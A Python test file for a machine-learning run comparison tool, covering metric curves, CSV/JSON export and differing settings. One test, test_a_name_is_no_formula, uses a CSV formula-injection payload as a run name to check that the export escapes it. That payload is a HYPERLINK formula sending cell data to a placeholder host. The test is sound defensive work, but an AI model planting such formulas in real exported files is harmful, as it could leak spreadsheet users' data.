"""Comparison of runs: axes, exported numbers, and the settings that differ."""

import csv
import dataclasses
import json

from core.runs import compare
from core.runs.compare import Compared
from core.runs.records import Run, RunState, new_run
from core.training.events import Evaluated, Started, UpdateDone
from core.training.history import History
from core.training.timeline import Edit
from tests.runs.made import EXPERIMENT, FACTS
from tests.training.health_made import recorded, value


def compared(number: int, updates: int = 6, **settings: object) -> Compared:
    run = new_run(f"mine-{number}", EXPERIMENT.changed(**settings), **FACTS)
    history = History()
    for update in range(1, updates + 1):
        history.add(UpdateDone(update, 0.1, 2.0 / update, 3.0 / update, 0.5 * update))
        if update % 2 == 0:
            history.add(Evaluated(update, 1.0, 0.5, 1.5, update / 10))
    return Compared(run, history)


RUNS = [compared(1), compared(2, 4, seed=3, weight_decay=0.01)]


def test_curves_over_updates_epochs_and_time() -> None:
    loss = compare.curves(RUNS, "loss")
    assert [line.run.id for line in loss] == ["mine-1", "mine-2"]
    assert loss[0].x.tolist() == [1, 2, 3, 4, 5, 6]
    assert loss[0].y.tolist() == [2.0 / u for u in range(1, 7)]
    accuracy = compare.curves(RUNS, "validation_accuracy", "epoch")
    assert accuracy[1].x.tolist() == [2 / 7, 4 / 7]
    assert accuracy[1].y.tolist() == [0.2, 0.4]
    assert compare.curves(RUNS, "validation_loss", "time")[0].x.tolist() == [1, 2, 3]
    assert compare.curves(RUNS, "rate", "time")[0].x.tolist() == [0.5, 1, 1.5, 2, 2.5, 3]


def test_the_health_of_networks_is_compared_over_every_axis() -> None:
    runs = [Compared(RUNS[0].run, recorded(300)), compared(2)]
    ratio, none = compare.curves(runs, "largest_ratio", "time")
    assert ratio.x.tolist() == [0.01, 1, 2, 3]
    assert ratio.y[0] == value("linear1.weight/ratio", 1)
    assert len(none.x) == len(none.y) == 0
    (epochs, _) = compare.curves(runs, "most_silent", "epoch")
    assert epochs.x.tolist() == [1 / 7, 100 / 7, 200 / 7, 300 / 7]
    written = compare.curves_csv([ratio], "time", "largest_ratio").splitlines()
    assert written[0] == "run,time,largest_ratio"
    assert len(written) == 5


def test_what_was_measured_at_a_stop_lies_on_no_curve() -> None:
    history = History()
    history.add(Started("synthetic", "built in", 10, 8, 7, 40, evaluate_every=2))
    for update, accuracy in ((2, 0.2), (4, 0.3), (5, 0.9)):
        history.add(Evaluated(update, 1.0, 0.5, 1.5, accuracy))
    result = {"updates": 5, "validation_accuracy": 0.9, "test_accuracy": 0.8}
    run = dataclasses.replace(RUNS[0].run, state=RunState.STOPPED, result=result)
    stopped = Compared(run, history)
    (line,) = compare.curves([stopped], "validation_accuracy")
    assert (line.x.tolist(), line.y.tolist()) == ([2, 4], [0.2, 0.3])
    (row,) = csv.DictReader(compare.table_csv([stopped]).splitlines())
    assert (row["validation_accuracy"], row["validation_accuracy_at_stop"]) == ("", "0.9")
    (told,) = json.loads(compare.as_json([stopped]))
    assert told["evaluations"]["at_stop"] == [0, 0, 1]
    assert told["result"]["validation_accuracy"] is None
    assert told["result"]["at_stop"]["validation_accuracy"] == 0.9


def test_a_run_without_points_has_an_empty_curve() -> None:
    for quantity in compare.QUANTITIES:
        for axis in compare.AXES:
            (line,) = compare.curves([compared(1, 0)], quantity, axis, 0.5)
            assert len(line.x) == len(line.y) == 0


def test_only_what_differs_is_listed() -> None:
    first = RUNS[0]
    assert compare.differing(RUNS) == [("lambda", ["0.003", "0.01"]), ("seed", ["0", "3"])]
    assert compare.differing(RUNS[:1]) == []
    other = compared(3, architecture="8x8/4/9")
    assert ("network", ["8x8/4/6", "8x8/4/9"]) in compare.differing([first, other])
    strange = dataclasses.replace(first.run, settings={"architecture": 5})
    assert compare.differing([first, Compared(strange, first.history)])


def test_a_run_that_is_older_than_a_setting_had_its_default() -> None:
    def differing(*runs: Run) -> list[tuple[str, list[str]]]:
        return compare.differing([Compared(run, History()) for run in runs])

    new = RUNS[0].run
    added = {"momentum", "nesterov", "warmup"}
    before = {name: value for name, value in new.settings.items() if name not in added}
    old = dataclasses.replace(new, id="old", settings=before)
    assert differing(old, new) == []
    faster = dataclasses.replace(new, settings=new.settings | {"momentum": 0.9})
    assert differing(old, faster) == [("momentum", ["0", "0.9"])]


def edited(number: int, *edits: Edit) -> Compared:
    each = compared(number)
    each.history.edits.extend(edits)
    return each


LOWER = Edit(2, {"weight_decay": 0.001})


def test_runs_that_differ_by_an_edit_alone_differ_by_it() -> None:
    twice = edited(2, LOWER, Edit(4, {"weight_decay": 0.002, "label_smoothing": 0.1}))
    runs = [compared(1), twice]
    words = "lambda 0.003 → 0.001 after 2; lambda 0.001 → 0.002, label smoothing 0 → 0.1 after 4"
    assert compare.differing(runs) == [("edits", ["none", words])]
    assert compare.differing([edited(1, LOWER), edited(2, LOWER)]) == []
    rows = list(csv.DictReader(compare.table_csv(runs).splitlines()))
    assert [row["edits"] for row in rows] == ["none", words]
    content = json.loads(compare.as_json(runs))
    assert [len(run["edits"]) for run in content] == [0, 2]
    assert content[1]["edits"][0] == {"update": 2, "changes": {"weight_decay": 0.001}}


def test_an_edit_of_a_run_whose_settings_cannot_be_is_told_without_what_was() -> None:
    strange = dataclasses.replace(RUNS[0].run, settings={"architecture": 5})
    assert compare.edits_of(Compared(strange, edited(1, LOWER).history)) == "lambda 0.001 after 2"
    odd = Compared(RUNS[0].run, edited(1, Edit(3, {"no such": 1})).history)
    assert compare.edits_of(odd) == "no such 1 after 3"


def test_a_curve_knows_where_its_run_was_edited_on_every_axis() -> None:
    later = Edit(5, {"weight_decay": 0.01})
    yet_to_come = Edit(100, {"weight_decay": 0.02})
    runs = [compared(1), edited(2, LOWER, LOWER, later, yet_to_come)]
    for quantity in compare.QUANTITIES:
        found = {axis: compare.curves(runs, quantity, axis) for axis in compare.AXES}
        assert [each[0].edits for each in found.values()] == [()] * 3
        assert found["update"][1].edits == (2, 5)
        assert found["epoch"][1].edits == (2 / 7, 5 / 7)
        assert found["time"][1].edits == (1, 2.5)
    assert compare.curves([Compared(runs[1].run, History())], "loss")[0].edits == ()


def test_a_name_is_no_formula() -> None:
    name = '=HYPERLINK("http://x.invalid/"&A1)'
    one = Compared(dataclasses.replace(RUNS[0].run, name=name), RUNS[0].history)
    rows = list(csv.DictReader(compare.table_csv([one, RUNS[1]]).splitlines()))
    assert rows[0]["name"] == f"'{name}"
    assert rows[0]["best_validation_accuracy"] == str(one.run.best_accuracy or "")


def test_tables_and_points_are_written_for_others() -> None:
    rows = list(csv.DictReader(compare.table_csv(RUNS).splitlines()))
    assert [row["id"] for row in rows] == ["mine-1", "mine-2"]
    assert [row["lambda"] for row in rows] == ["0.003", "0.01"]
    long = compare.table_csv([compared(1), compared(2, half_cycle=2450)])
    assert [row["half cycle"] for row in csv.DictReader(long.splitlines())] == ["4", "2450"]
    lines = compare.curves(RUNS, "loss")
    points = list(csv.reader(compare.curves_csv(lines, "update", "loss").splitlines()))
    assert points[0] == ["run", "update", "loss"]
    assert len(points) == 1 + 6 + 4
    assert points[1:3] == [["mine-1", "1", "2.0"], ["mine-1", "2", "1.0"]]
    lines = compare.curves(RUNS, "loss", "epoch")
    points = list(csv.reader(compare.curves_csv(lines, "epoch", "loss").splitlines()))
    assert float(points[1][1]) == 1 / 7
    content = json.loads(compare.as_json(RUNS))
    assert content[1]["settings"]["seed"] == 3
    assert '"update": [1, 2,' in compare.as_json(RUNS)
    assert content[0]["updates"]["loss"] == [2.0 / u for u in range(1, 7)]
